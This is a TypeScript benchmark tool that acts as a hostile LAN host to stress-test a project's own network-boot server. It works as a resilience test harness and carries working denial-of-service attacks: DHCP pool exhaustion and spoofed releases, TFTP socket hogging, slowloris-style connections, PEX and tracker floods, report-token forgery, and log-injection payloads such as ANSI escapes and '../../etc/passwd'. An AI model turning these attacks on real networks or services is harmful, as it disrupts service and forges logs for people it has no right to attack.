/**
 * The hostile LAN host of issue #14's soak (bench/hostile-soak.ts): every
 * attack the issue lists, from one process with one IP, all at once and
 * for as long as it runs, over real sockets. Rates are bounded (a few
 * hundred packets/s in all, see DEFAULT_RATES) so that what the soak
 * measures is the server, not a 2-core machine saturated by its attacker.
 *
 *   node dist/bench/attacks.js --server IP --self IP --range A-B
 *        [--victims MAC,MAC] [--http-port 80] [--tracker-port 6969]
 *        [--seed-port 6881] [--tftp-port 69] [--tftp-file ipxe.efi]
 *        [--report-every 5]
 *
 * Runs inside the hostile namespace (it binds UDP 68 for DHCP). Prints
 * `ATTACK {json}` with every counter every --report-every seconds and
 * `ATTACK-DONE {json}` on SIGTERM/SIGINT, then exits 0. A counter is what
 * the attacker saw (sent, answered, refused, closed by the server): the
 * soak reads them to show each attack really ran.
 *
 * Not here, and why (see bench/results/hostile-soak.md): the symlink
 * attack on a client's download folder (#14 item 9) needs write access to
 * a client's disk, and a bad leases file (item 10) is a file on the
 * server; neither is something a host on the LAN can send.
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { randomBytes, randomInt } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { parseArgs } from 'node:util';
import { decode as bdecode, isDict, type BValue } from '../src/bencode/index.js';
import {
  MessageType,
  Opt,
  encode as dhcpEncode,
  decode as dhcpDecode,
  ipToBytes,
  macToChaddr,
  messageType,
} from '../src/dhcp/codec.js';
import { intToIp, ipToInt } from '../src/util/address.js';
import { encode as tftpEncode, decode as tftpDecode } from '../src/tftp/codec.js';
import { parseTorrent } from '../src/torrent/metainfo.js';
import {
  MessageDecoder,
  decodeExtendedHandshake,
  decodePex,
  encodeExtendedHandshake,
  encodeHandshake,
  encodeMessage,
  encodePex,
  reservedBytes,
  type PexPeer,
} from '../src/wire/codec.js';

/** How hard each attack pushes; the soak records these with its figures. */
export const DEFAULT_RATES = Object.freeze({
  /** #6: DISCOVERs from new made-up MACs (half PXE, half plain), never followed by a REQUEST. */
  dhcpDiscoverPerSec: 40,
  /** #2: DECLINEs for addresses in the range from random MACs. */
  dhcpDeclinePerSec: 10,
  /** #2: RELEASEs for addresses in the range from random MACs. */
  dhcpReleasePerSec: 10,
  /** #3: TFTP RRQs with `timeout 255` that are never ACKed, each from its own port. */
  tftpHogPerSec: 5,
  /** #3: hogging TFTP sockets kept open at once (the oldest is closed beyond this). */
  tftpHogSockets: 400,
  /** #7: TFTP RRQs whose file name holds newlines and escape sequences. */
  tftpInjectPerSec: 2,
  /** #3: connections to the seeder that send one byte every `trickleEveryMs`. */
  trickleConns: 150,
  trickleEveryMs: 3000,
  /** #3: peers that handshake, then say nothing at all. */
  idlePeers: 50,
  /** #1: peers whose extended handshake says m: {ut_pex: 0}, kept connected (keep-alive every 30 s). */
  pexZeroConns: 4,
  /** #4: peers that send ut_pex with `pexPeersPerMessage` made-up peers every `pexEveryMs`. */
  pexFloodConns: 2,
  pexPeersPerMessage: 1000,
  pexEveryMs: 2000,
  /** #5: tracker announces, each with a new random peer id and port, alternating HTTP on the tracker and the boot port. */
  announcesPerSec: 40,
  /** #7: GET /api/v1/boot/<victim MAC> and, with the token it gives, a forged report; plus a report with a bad token. */
  stealPerSec: 2,
  /** #8: POSTs whose body never finishes (one byte every 10 s), spread over the boot HTTP, tracker and dashboard ports. */
  halfPostConns: 200,
  /** New TCP connections per second across the pools above while they fill (and refill). */
  connectPerSec: 10,
});
export type AttackRates = { -readonly [K in keyof typeof DEFAULT_RATES]: number };

export interface AttackOptions {
  server: string;
  self: string;
  /** First and last address of the server's DHCP range. */
  range: [string, string];
  /** MACs of the honest clients (a LAN host sees them in ARP and DHCP broadcasts). */
  victims: string[];
  httpPort: number;
  trackerPort: number;
  seedPort: number;
  tftpPort: number;
  dashboardPort: number;
  /** A file the TFTP server has (the iPXE binary firmware asks for). */
  tftpFile: string;
  /** The id of an OS the server offers (for its .torrent when the boot config is refused). */
  os: string;
  rates: AttackRates;
}

/** Counters by name; what the soak prints. */
export class Counters {
  private readonly c = new Map<string, number>();
  add(name: string, n = 1): void {
    this.c.set(name, (this.c.get(name) ?? 0) + n);
  }
  set(name: string, n: number): void {
    this.c.set(name, n);
  }
  toJSON(): Record<string, number> {
    return Object.fromEntries([...this.c.entries()].sort(([a], [b]) => (a < b ? -1 : 1)));
  }
}

const randomMac = (): string =>
  // Locally administered, unicast; 02:66 marks this attacker's made-up MACs.
  ['02', '66', ...[...randomBytes(4)].map((b) => b.toString(16).padStart(2, '0'))].join(':');

/** Log-injection payloads: a forged log line, ANSI escapes, a terminal title, a bidi override. */
const INJECT = [
  'ipxe.efi\n2026-12-04T00:00:00.000Z INFO client 52:54:00:00:00:01 boots alpha after 1.0 s',
  'x\r\u001b[2J\u001b[H\u001b[31mserver compromised\u001b[0m',
  '../../etc/passwd\u001b]0;pwned\u0007',
  'undionly.kpxe\u202e\u2028INFO forged',
];

/**
 * Calls `fn` `perSec` times a second, spread evenly, until stopped. A tick
 * that lags (a loaded machine) is not made up for: the rate is a ceiling.
 */
function every(perSec: number, fn: () => void, stops: (() => void)[]): void {
  if (perSec <= 0) return;
  const t = setInterval(
    () => {
      try {
        fn();
      } catch {
        // an attack's own failure (e.g. EMFILE) must not stop the others
      }
    },
    Math.max(1, Math.round(1000 / perSec)),
  );
  stops.push(() => clearInterval(t));
}

/** What GET /api/v1/boot/<mac> tells anyone who asks: the info hash and the seeder. */
interface Target {
  infoHash: Buffer;
  length: number;
}

export class HostileHost {
  readonly stats = new Counters();
  private readonly stops: (() => void)[] = [];
  private readonly sockets = new Set<Socket>();
  private readonly udp = new Set<UdpSocket>();
  private readonly hog: UdpSocket[] = [];
  private target: Target | undefined;
  private readonly honestPeers = new Set<string>();
  private readonly agent = new Agent({ keepAlive: true, maxSockets: 4 });
  private stopped = false;
  private readonly learnerId = Buffer.concat([Buffer.from('-HX0001-'), randomBytes(12)]);
  private learnerIn = false;
  private turn = 0;
  private readonly startedAt = Date.now();
  /** What each trickling connection has still to send, a byte at a time. */
  private readonly toTrickle = new WeakMap<Socket, Buffer>();
  /** The id each peer wants ut_pex under (BEP 10 extended handshake), once it said. */
  private readonly pexIds = new WeakMap<Socket, number>();
  private readonly peerId = (): Buffer => Buffer.concat([Buffer.from('-HX0001-'), randomBytes(12)]);
  private readonly pools = {
    pexZero: new Set<Socket>(),
    pexFlood: new Set<Socket>(),
    idle: new Set<Socket>(),
    trickle: new Set<Socket>(),
    halfPost: new Set<Socket>(),
  };

  constructor(private readonly o: AttackOptions) {}

  async start(): Promise<void> {
    const r = this.o.rates;
    // UDP: DHCP and TFTP need nothing from the server first.
    await this.startDhcp();
    every(r.tftpHogPerSec, () => this.tftpRrq(this.o.tftpFile, true), this.stops);
    every(r.tftpInjectPerSec, () => this.tftpRrq(INJECT[randomInt(INJECT.length)]!, false), this.stops);
    every(r.stealPerSec, () => this.steal(), this.stops);
    every(r.announcesPerSec, () => this.announce(), this.stops);
    every(1 / 3, () => this.announce(true), this.stops);
    every(r.connectPerSec, () => this.fillPools(), this.stops);
    // The keep-alive of the pex-zero peers, and the trickle and half-post bytes.
    every(1 / 30, () => this.keepAlive(this.pools.pexZero), this.stops);
    every(1000 / r.trickleEveryMs, () => this.trickle(), this.stops);
    every(1 / 10, () => this.halfPostByte(), this.stops);
    every(1000 / r.pexEveryMs, () => this.pexFlood(), this.stops);
    every(1, () => this.gauges(), this.stops);
    every(0.5, () => void this.learnTarget(), this.stops);
    await this.learnTarget();
    this.announce(true);
  }

  private gauges(): void {
    for (const [k, v] of Object.entries(this.pools)) this.stats.set(`open.${k}`, v.size);
    this.stats.set('open.tftpHog', this.hog.length);
    this.stats.set('honestPeersKnown', this.honestPeers.size);
  }

  // --- HTTP ---------------------------------------------------------------

  private http(
    port: number,
    method: string,
    path: string,
    headers: Record<string, string>,
    body?: string,
  ): Promise<{ status: number; body: Buffer }> {
    return new Promise((resolve, reject) => {
      const req = request(
        { host: this.o.server, port, method, path, headers, agent: this.agent, timeout: 10_000 },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks) }));
          res.on('error', reject);
        },
      );
      req.on('timeout', () => req.destroy(new Error('timeout')));
      req.on('error', reject);
      req.end(body);
    });
  }

  /**
   * The info hash: from the boot config the server gives a MAC, or, if it
   * gives none to us, from the OS's .torrent (public: every client fetches
   * it; the OS id is in any client's boot config or HTTP traffic).
   */
  private async learnTarget(): Promise<void> {
    if (this.target || this.stopped) return;
    try {
      const r = await this.http(this.o.httpPort, 'GET', `/api/v1/boot/${randomMac()}`, {});
      const cfg = JSON.parse(r.body.toString()) as {
        oss?: { infoHash: string; files: { length: number }[] }[];
      };
      const os = cfg.oss?.[0];
      if (os) {
        this.target = {
          infoHash: Buffer.from(os.infoHash, 'hex'),
          length: os.files.reduce((n, f) => n + f.length, 0),
        };
        this.stats.add('target.fromBootConfig');
        return;
      }
    } catch {
      // refused, or not JSON: try the torrent
    }
    try {
      const path = `/api/v1/torrent/${encodeURIComponent(this.o.os)}.torrent`;
      const meta = parseTorrent((await this.http(this.o.httpPort, 'GET', path, {})).body);
      this.target = { infoHash: meta.infoHash, length: meta.length };
      this.stats.add('target.fromTorrent');
    } catch {
      this.stats.add('target.notYet');
    }
  }

  /** #7: the victim's boot config, its report token, and a forged report with it; and one with a bad token. */
  private steal(): void {
    const mac = this.o.victims.length > 0 ? this.o.victims[randomInt(this.o.victims.length)]! : randomMac();
    const forged = JSON.stringify({
      stage: 'failed',
      error: 'disk on fire\n2026-12-04T00:00:00.000Z INFO client ' + mac + ' boots alpha\u001b[2J\u001b[H',
    });
    void this.http(this.o.httpPort, 'GET', `/api/v1/boot/${mac}`, {})
      .then(async (r) => {
        this.stats.add(`steal.bootConfig.${r.status}`);
        let token: string | undefined;
        try {
          token = (JSON.parse(r.body.toString()) as { reportToken?: string }).reportToken;
        } catch {
          // not JSON: nothing to steal
        }
        if (!token) return;
        this.stats.add('steal.tokenGiven');
        const p = await this.http(
          this.o.httpPort,
          'POST',
          `/api/v1/report/${mac}`,
          { 'content-type': 'application/json', 'x-boottorrent-token': token },
          forged,
        );
        this.stats.add(`steal.forgedReport.${p.status}`);
      })
      .catch(() => this.stats.add('steal.error'));
    void this.http(
      this.o.httpPort,
      'POST',
      `/api/v1/report/${mac}`,
      { 'content-type': 'application/json', 'x-boottorrent-token': 'f'.repeat(32) },
      forged,
    )
      .then((r) => this.stats.add(`steal.badToken.${r.status}`))
      .catch(() => this.stats.add('steal.error'));
  }

  /**
   * #5: an announce with a new random peer id and port; learns the honest
   * peers from the answer. The learner is one steady peer (one id, one
   * port, as a real client) that asks for many peers every 3 s: once the
   * flood is refused, it is how the attacker still finds the honest agents.
   */
  private announce(learner = false): void {
    const t = this.target;
    if (!t) return;
    // The flood waits (10 s at most) for the learner's first answer, as a real client that starts flooding would.
    if (!learner && !this.learnerIn && Date.now() < this.startedAt + 10_000) return;
    const overTracker = learner || randomInt(2) === 0;
    const kind = learner ? 'learner' : 'announce';
    const q = [
      `info_hash=${escapeBytes(t.infoHash)}`,
      `peer_id=${escapeBytes(learner ? this.learnerId : this.peerId())}`,
      `port=${learner ? 6881 : randomInt(1024, 65536)}`,
      'uploaded=0',
      'downloaded=0',
      `left=${t.length}`,
      'compact=1',
      ...(learner ? [] : ['event=started']),
      `numwant=${learner ? 200 : 50}`,
    ].join('&');
    void this.http(overTracker ? this.o.trackerPort : this.o.httpPort, 'GET', `/announce?${q}`, {})
      .then((r) => {
        // A refusal is an HTTP 200 with a "failure reason" (BEP 3).
        const refused = /failure reason\d+:(.{0,60})/.exec(r.body.toString('latin1'))?.[1];
        if (learner && refused === undefined) this.learnerIn = true;
        // The reason (numbers out, so they group): what the tracker's limits answer.
        this.stats.add(
          `${kind}.${r.status}${refused !== undefined ? ` refused: ${refused.replace(/\d+/g, 'N')}` : ''}`,
        );
        this.learnPeers(r.body);
      })
      .catch(() => this.stats.add(`${kind}.error`));
  }

  private learnPeers(body: Buffer): void {
    let d: BValue;
    try {
      d = bdecode(body);
    } catch {
      return;
    }
    if (!isDict(d)) return;
    const peers = d.get('peers');
    if (!Buffer.isBuffer(peers)) return;
    for (let i = 0; i + 6 <= peers.length; i += 6) {
      const ip = [...peers.subarray(i, i + 4)].join('.');
      this.addHonest(`${ip}:${peers.readUInt16BE(i + 4)}`);
    }
  }

  private addHonest(addr: string): void {
    const ip = addr.slice(0, addr.lastIndexOf(':'));
    if (ip === this.o.self || ip === this.o.server) return;
    this.honestPeers.delete(addr);
    this.honestPeers.add(addr);
    // Agents leave after they boot: keep the newest few.
    if (this.honestPeers.size > 16) this.honestPeers.delete(this.honestPeers.values().next().value!);
  }

  // --- DHCP ---------------------------------------------------------------

  private async startDhcp(): Promise<void> {
    const open = async (addr: string): Promise<UdpSocket> => {
      const s = createSocket({ type: 'udp4', reuseAddr: true });
      await new Promise<void>((resolve, reject) => {
        s.once('error', reject);
        s.bind(68, addr, () => resolve());
      });
      s.on('error', () => this.stats.add('dhcp.socketError'));
      s.setBroadcast(true);
      this.udp.add(s);
      return s;
    };
    // Replies are broadcast (BROADCAST flag): one socket on 0.0.0.0 hears
    // them; sends go from one bound to our address, or Linux has no route
    // for 255.255.255.255 without a default route.
    const rx = await open('0.0.0.0');
    const tx = await open(this.o.self);
    rx.on('message', (m) => {
      try {
        const p = dhcpDecode(m);
        if (p.op !== 2 || p.chaddr[0] !== 0x02 || p.chaddr[1] !== 0x66) return;
        const t = messageType(p);
        this.stats.add(
          `dhcp.reply.${t === MessageType.OFFER ? 'offer' : t === MessageType.ACK ? 'ack' : t === MessageType.NAK ? 'nak' : String(t)}`,
        );
      } catch {
        // not for us
      }
    });
    const first = ipToInt(this.o.range[0]);
    const last = ipToInt(this.o.range[1]);
    const inRange = (): string => intToIp(first + randomInt(last - first + 1));
    const send = (pkt: Buffer, to: string, what: string): void => {
      tx.send(pkt, 67, to, (err) => this.stats.add(err ? 'dhcp.sendError' : `dhcp.sent.${what}`));
    };
    const r = this.o.rates;
    let n = 0;
    every(
      r.dhcpDiscoverPerSec,
      () => {
        const pxe = n++ % 2 === 0;
        const options = new Map<number, Buffer>([[Opt.MESSAGE_TYPE, Buffer.from([MessageType.DISCOVER])]]);
        if (pxe) {
          options.set(Opt.VENDOR_CLASS, Buffer.from('PXEClient:Arch:00007:UNDI:003016'));
          options.set(Opt.CLIENT_ARCH, Buffer.from([0, 7]));
        }
        send(
          dhcpEncode({
            op: 1,
            xid: randomInt(2 ** 31),
            chaddr: macToChaddr(randomMac()),
            flags: 0x8000,
            options,
          }),
          '255.255.255.255',
          'discover',
        );
      },
      this.stops,
    );
    every(
      r.dhcpDeclinePerSec,
      () =>
        send(
          dhcpEncode({
            op: 1,
            xid: randomInt(2 ** 31),
            chaddr: macToChaddr(randomMac()),
            options: new Map([
              [Opt.MESSAGE_TYPE, Buffer.from([MessageType.DECLINE])],
              [Opt.REQUESTED_IP, ipToBytes(inRange())],
              [Opt.SERVER_ID, ipToBytes(this.o.server)],
            ]),
          }),
          '255.255.255.255',
          'decline',
        ),
      this.stops,
    );
    every(
      r.dhcpReleasePerSec,
      () =>
        send(
          dhcpEncode({
            op: 1,
            xid: randomInt(2 ** 31),
            chaddr: macToChaddr(randomMac()),
            ciaddr: inRange(),
            options: new Map([
              [Opt.MESSAGE_TYPE, Buffer.from([MessageType.RELEASE])],
              [Opt.SERVER_ID, ipToBytes(this.o.server)],
            ]),
          }),
          this.o.server,
          'release',
        ),
      this.stops,
    );
  }

  // --- TFTP ---------------------------------------------------------------

  /** One RRQ from a new port; a hog keeps its port open and never ACKs. */
  private tftpRrq(file: string, hog: boolean): void {
    const s = createSocket('udp4');
    this.udp.add(s);
    const kind = hog ? 'hog' : 'inject';
    let answered = false;
    s.on('error', () => this.stats.add(`tftp.${kind}.socketError`));
    s.on('message', (m) => {
      if (answered) return;
      answered = true;
      try {
        const p = tftpDecode(m);
        this.stats.add(`tftp.${kind}.${p.type === 'ERROR' ? 'refused' : 'granted'}`);
      } catch {
        this.stats.add(`tftp.${kind}.garbled`);
      }
    });
    s.bind(0, this.o.self, () => {
      const options = new Map(
        hog
          ? [
              ['timeout', '255'],
              ['blksize', '512'],
            ]
          : [['tsize', '0']],
      );
      s.send(
        tftpEncode({ type: 'RRQ', filename: file, mode: 'octet', options }),
        this.o.tftpPort,
        this.o.server,
        (err) => this.stats.add(err ? `tftp.${kind}.sendError` : `tftp.${kind}.sent`),
      );
    });
    if (hog) {
      this.hog.push(s);
      while (this.hog.length > this.o.rates.tftpHogSockets) this.closeUdp(this.hog.shift()!);
    } else setTimeout(() => this.closeUdp(s), 5000).unref();
  }

  private closeUdp(s: UdpSocket): void {
    if (!this.udp.delete(s)) return;
    try {
      s.close();
    } catch {
      // already closed
    }
  }

  // --- TCP pools ----------------------------------------------------------

  /** Opens one connection for a pool below its size (connectPerSec of these a second). */
  private fillPools(): void {
    if (this.stopped) return;
    const r = this.o.rates;
    const want: [keyof HostileHost['pools'], number][] = [
      ['pexZero', r.pexZeroConns],
      ['pexFlood', r.pexFloodConns],
      ['idle', r.idlePeers],
      ['trickle', r.trickleConns],
      ['halfPost', r.halfPostConns],
    ];
    // Round robin over the pools below their size: a pool the server keeps
    // empty (it refuses or closes those at once) must not take every turn.
    const short = want.filter(
      ([k, n]) => this.pools[k].size < n && (k === 'trickle' || k === 'halfPost' || this.target),
    );
    const pick = short[this.turn++ % Math.max(1, short.length)];
    if (!pick) return;
    const [kind] = pick;
    if (kind === 'trickle') return this.open(kind, this.o.seedPort, this.o.server);
    if (kind === 'halfPost') return this.openHalfPost();
    // The peer attacks go to the seeder, and one in three to an honest client when one is known.
    const honest = [...this.honestPeers];
    if (honest.length > 0 && randomInt(3) === 0) {
      const [host, port] = honest[randomInt(honest.length)]!.split(':');
      this.stats.add(`${kind}.toAgent`);
      return this.open(kind, Number(port), host!);
    }
    this.open(kind, this.o.seedPort, this.o.server);
  }

  private track(kind: keyof HostileHost['pools'], s: Socket): void {
    this.sockets.add(s);
    this.pools[kind].add(s);
    const opened = Date.now();
    s.setNoDelay(true);
    s.on('error', () => undefined);
    s.once('connect', () => this.stats.add(`${kind}.connected`));
    s.on('close', () => {
      this.sockets.delete(s);
      this.pools[kind].delete(s);
      if (!this.stopped) {
        this.stats.add(`${kind}.closedByServer`);
        this.stats.add(`${kind}.secondsHeld`, Math.round((Date.now() - opened) / 1000));
      }
    });
  }

  private open(kind: 'pexZero' | 'pexFlood' | 'idle' | 'trickle', port: number, host: string): void {
    const s = connect({ port, host, localAddress: this.o.self });
    this.track(kind, s);
    if (kind === 'trickle') {
      s.once('connect', () => {
        // A real handshake's bytes, one at a time: a slot taken until the deadline ends it.
        this.toTrickle.set(
          s,
          encodeHandshake({
            reserved: reservedBytes({ fast: true, extended: true }),
            infoHash: this.target?.infoHash ?? randomBytes(20),
            peerId: this.peerId(),
          }),
        );
      });
      return;
    }
    const t = this.target!;
    s.once('connect', () => {
      s.write(
        encodeHandshake({
          reserved: reservedBytes({ fast: true, extended: true }),
          infoHash: t.infoHash,
          peerId: this.peerId(),
        }),
      );
      // BEP 6: have-none first; then BEP 10's extended handshake, with a
      // listen port (`p`) as real clients send: a peer with a port is one
      // the seeder passes on in its own PEX messages (BEP 11).
      s.write(encodeMessage({ type: 'have-none' }));
      const m = new Map(
        kind === 'pexZero'
          ? [
              ['ut_pex', 0],
              ['ut_metadata', 0],
            ]
          : kind === 'pexFlood'
            ? [['ut_pex', 1]]
            : [['ut_metadata', 2]],
      );
      s.write(
        encodeMessage({
          type: 'extended',
          id: 0,
          payload: encodeExtendedHandshake({ m, p: randomInt(1024, 65536), v: 'hostile 1.0' }),
        }),
      );
      this.stats.add(`${kind}.handshakesSent`);
    });
    // Read the remote's handshake and messages: its ut_pex id is where the flood goes.
    let head = Buffer.alloc(0);
    const decoder = new MessageDecoder();
    s.on('data', (chunk: Buffer) => {
      let rest = chunk;
      if (head.length < 68) {
        const need = 68 - head.length;
        head = Buffer.concat([head, chunk.subarray(0, need)]);
        rest = chunk.subarray(need);
        if (head.length === 68) this.stats.add(`${kind}.handshakesAnswered`);
      }
      if (rest.length === 0) return;
      try {
        for (const msg of decoder.push(rest)) {
          if (msg.type === 'extended' && msg.id === 0) {
            const ext = decodeExtendedHandshake(msg.payload);
            this.pexIds.set(s, ext.m.get('ut_pex') ?? 0);
          } else if (msg.type === 'extended' && kind === 'pexFlood' && msg.id === 1) {
            // The seeder's own PEX (BEP 11) names the honest clients and their ports.
            for (const p of decodePex(msg.payload).added) this.addHonest(`${p.host}:${p.port}`);
            this.stats.add('pexFlood.pexReceived');
          }
        }
      } catch {
        s.destroy();
      }
    });
  }

  private keepAlive(pool: Set<Socket>): void {
    for (const s of pool) if (s.writable) s.write(encodeMessage({ type: 'keep-alive' }));
  }

  /** #3: the next byte of each trickling connection. */
  private trickle(): void {
    for (const s of this.pools.trickle) {
      let rest = this.toTrickle.get(s);
      if (!rest || !s.writable) continue;
      // After the handshake: a keep-alive's length prefix, a byte at a time, forever.
      if (rest.length === 0) rest = Buffer.alloc(4);
      s.write(rest.subarray(0, 1));
      this.toTrickle.set(s, rest.subarray(1));
      this.stats.add('trickle.bytes');
    }
  }

  /** #4: thousands of made-up peers, to the seeder and honest clients that offered ut_pex. */
  private pexFlood(): void {
    const subnet = this.o.server.split('.').slice(0, 3).join('.');
    for (const s of this.pools.pexFlood) {
      const id = this.pexIds.get(s);
      if (!id || !s.writable) continue;
      const added: PexPeer[] = Array.from({ length: this.o.rates.pexPeersPerMessage }, () => ({
        host: `${subnet}.${randomInt(2, 255)}`,
        port: randomInt(1024, 65536),
      }));
      s.write(encodeMessage({ type: 'extended', id, payload: encodePex({ added, dropped: [] }) }));
      this.stats.add('pexFlood.messages');
      this.stats.add('pexFlood.peersSent', added.length);
    }
  }

  /** #8: a POST that promises a body it never finishes sending, to one of the server's HTTP ports. */
  private openHalfPost(): void {
    const ports = [this.o.httpPort, this.o.trackerPort, this.o.dashboardPort];
    const port = ports[randomInt(ports.length)]!;
    const s = connect({ port, host: this.o.server, localAddress: this.o.self });
    this.track('halfPost', s);
    s.on('data', () => this.stats.add(`halfPost.answered.${port}`));
    s.once('connect', () => {
      const mac = this.o.victims[0] ?? randomMac();
      s.write(
        `POST /api/v1/report/${mac} HTTP/1.1\r\nHost: ${this.o.server}\r\ncontent-type: application/json\r\n` +
          `x-boottorrent-token: ${'0'.repeat(32)}\r\ncontent-length: 1000000\r\n\r\n{"stage":`,
      );
    });
  }

  private halfPostByte(): void {
    for (const s of this.pools.halfPost) if (s.writable) s.write(' ');
  }

  stop(): void {
    this.stopped = true;
    for (const f of this.stops.splice(0)) f();
    for (const s of this.sockets) s.destroy();
    for (const s of [...this.udp]) this.closeUdp(s);
    this.hog.length = 0;
    this.agent.destroy();
  }
}

/** %-escapes every byte (BEP 3 info_hash / peer_id in a query string). */
function escapeBytes(b: Buffer): string {
  return [...b].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('');
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      server: { type: 'string' },
      self: { type: 'string' },
      range: { type: 'string' },
      victims: { type: 'string', default: '' },
      'http-port': { type: 'string', default: '80' },
      'tracker-port': { type: 'string', default: '6969' },
      'seed-port': { type: 'string', default: '6881' },
      'tftp-port': { type: 'string', default: '69' },
      'dashboard-port': { type: 'string', default: '8480' },
      'tftp-file': { type: 'string', default: 'ipxe.efi' },
      os: { type: 'string', default: 'alpha' },
      'report-every': { type: 'string', default: '5' },
      rates: { type: 'string', default: '{}' },
    },
  });
  if (!values.server || !values.self || !values.range)
    throw new Error('--server, --self and --range are required');
  const [a, b] = values.range.split('-');
  const host = new HostileHost({
    server: values.server,
    self: values.self,
    range: [a!, b!],
    victims: values.victims.split(',').filter(Boolean),
    httpPort: Number(values['http-port']),
    trackerPort: Number(values['tracker-port']),
    seedPort: Number(values['seed-port']),
    tftpPort: Number(values['tftp-port']),
    dashboardPort: Number(values['dashboard-port']),
    tftpFile: values['tftp-file'],
    os: values.os,
    rates: { ...DEFAULT_RATES, ...(JSON.parse(values.rates) as Partial<AttackRates>) },
  });
  const t0 = Date.now();
  const line = (tag: string) =>
    process.stdout.write(
      `${tag} ${JSON.stringify({ t: (Date.now() - t0) / 1000, ...host.stats.toJSON() })}\n`,
    );
  const report = setInterval(() => line('ATTACK'), Number(values['report-every']) * 1000);
  const done = (): void => {
    clearInterval(report);
    host.stop();
    line('ATTACK-DONE');
    process.exit(0);
  };
  process.once('SIGTERM', done);
  process.once('SIGINT', done);
  await host.start();
  process.stdout.write('ATTACK-STARTED\n');
}

if (process.argv[1] && new URL(import.meta.url).pathname === process.argv[1]) await main();
